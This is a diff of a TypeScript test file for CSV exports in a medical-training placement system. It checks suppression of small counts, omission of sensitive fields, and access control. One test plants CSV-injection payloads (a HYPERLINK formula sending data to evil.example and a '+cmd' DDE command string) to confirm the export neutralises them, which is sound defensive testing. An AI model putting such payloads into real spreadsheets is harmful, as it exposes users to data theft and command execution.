@@ -1,29 +1,17 @@
-import {
-  createTestDatabase,
-  participationRow,
-  placementRow,
-  seedRows,
-  type TestDatabase,
-  traineeRow,
-} from '@ldm/db/testing';
+import { participationRow, placementRow, seedRows, traineeRow } from '@ldm/db/testing';
 import { parse } from 'csv-parse/sync';
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import type { SessionUser } from '../context';
-import { callAs } from '../testing/call-as';
-import { addTestUsers } from '../testing/users';
+import { beforeAll, describe, expect, it } from 'vitest';
+import { databaseWithUsers } from '../testing/database-with-users';
 
 const rowsOf = (csv: string) => parse(csv, { bom: true, columns: true }) as Record<string, string>[];
 
 describe('CSV exports', () => {
-  let t: TestDatabase;
-  let users: Record<'admin' | 'national' | 'dean' | 'lead', SessionUser>;
-  const as = (user: SessionUser) => callAs(t.db, user);
+  const suite = databaseWithUsers();
+  const as = suite.as;
 
   beforeAll(async () => {
-    t = await createTestDatabase();
-    users = await addTestUsers(t.db);
     const gmcs = Array.from({ length: 9 }, (_, i) => String(2000000 + i));
-    await seedRows(t.db, {
+    await seedRows(suite.db, {
       organisations: [{ code: 'RNE', name: 'Tyneside, "North"', type: 'trust', locality_code: 'NE' }],
       trainees: gmcs.map((gmc) =>
         traineeRow(gmc, {
@@ -38,7 +26,7 @@ describe('CSV exports', () => {
         placementRow(gmc, 'RNE', 'F1', { start_date: '2024-08-01', end_date: '2025-07-31' }),
       ),
     });
-    const lead = as(users.lead);
+    const lead = as(suite.users.lead);
     await lead.offer.create({
       localityCode: 'NE',
       offer: {
@@ -54,14 +42,13 @@ describe('CSV exports', () => {
       localityCode: 'NE',
       cohort: { code: 'NE1-A', offerCode: 'NE1', startDate: '2024-09-01', endDate: '2025-03-31', places: 12 },
     });
-    await seedRows(t.db, {
+    await seedRows(suite.db, {
       participations: gmcs.slice(0, 3).map((gmc) => participationRow(gmc, 'NE1-A', '2024-09-01')),
     });
   });
-  afterAll(() => t.destroy());
 
   it('suppresses a fill of 3 in an export even for the own locality, which sees 3 on screen', async () => {
-    const lead = as(users.lead);
+    const lead = as(suite.users.lead);
     expect((await lead.offer.get({ localityCode: 'NE', code: 'NE1' })).cohorts[0]!.filled).toBe(3);
     const file = await lead.export.offers({ localityCode: 'NE' });
     expect(file.fileName).toBe('offers-NE.csv');
@@ -84,7 +71,7 @@ describe('CSV exports', () => {
   });
 
   it('exports trainees without sex, ethnic group or qualification, quoting commas', async () => {
-    const file = await as(users.dean).export.trainees({ localityCode: 'NE', sort: 'gmcNumber' });
+    const file = await as(suite.users.dean).export.trainees({ localityCode: 'NE', sort: 'gmcNumber' });
     const rows = rowsOf(file.csv);
     expect(rows).toHaveLength(9);
     expect(rows[0]).toEqual({
@@ -99,23 +86,25 @@ describe('CSV exports', () => {
       start_date: '2024-08-01',
       end_date: '2025-07-31',
     });
-    await expect(as(users.national).export.trainees({ localityCode: 'NE' })).rejects.toMatchObject({
+    await expect(as(suite.users.national).export.trainees({ localityCode: 'NE' })).rejects.toMatchObject({
       code: 'FORBIDDEN',
     });
   });
 
   it('refuses a period that does not exist', async () => {
-    await expect(as(users.dean).export.measures({ period: '2024-26' })).rejects.toMatchObject({ code: 'BAD_REQUEST' });
+    await expect(as(suite.users.dean).export.measures({ period: '2024-26' })).rejects.toMatchObject({
+      code: 'BAD_REQUEST',
+    });
   });
 
   it('neutralises formulas a locality user typed into an offer or an import put into a trainee', async () => {
-    const lead = as(users.lead);
+    const lead = as(suite.users.lead);
     const title = '=HYPERLINK("http://evil.example/?"&A1,"Click for details")';
     await lead.offer.create({
       localityCode: 'NE',
       offer: { code: 'NE2', title, provider: '@SUM(1+1)', scope: 'NE', tier: 2, stages: ['core'] },
     });
-    await t.db
+    await suite.db
       .updateTable('trainees')
       .set({ surname: "+cmd|' /C calc'!A0" })
       .where('gmc_number', '=', '2000001')
@@ -127,7 +116,7 @@ describe('CSV exports', () => {
       expect(trainees[1]).toMatchObject({ gmc_number: '2000001', surname: "'+cmd|' /C calc'!A0" });
     } finally {
       await lead.offer.delete({ localityCode: 'NE', code: 'NE2' });
-      await t.db.updateTable('trainees').set({ surname: 'S2000001' }).where('gmc_number', '=', '2000001').execute();
+      await suite.db.updateTable('trainees').set({ surname: 'S2000001' }).where('gmc_number', '=', '2000001').execute();
     }
   });
 });
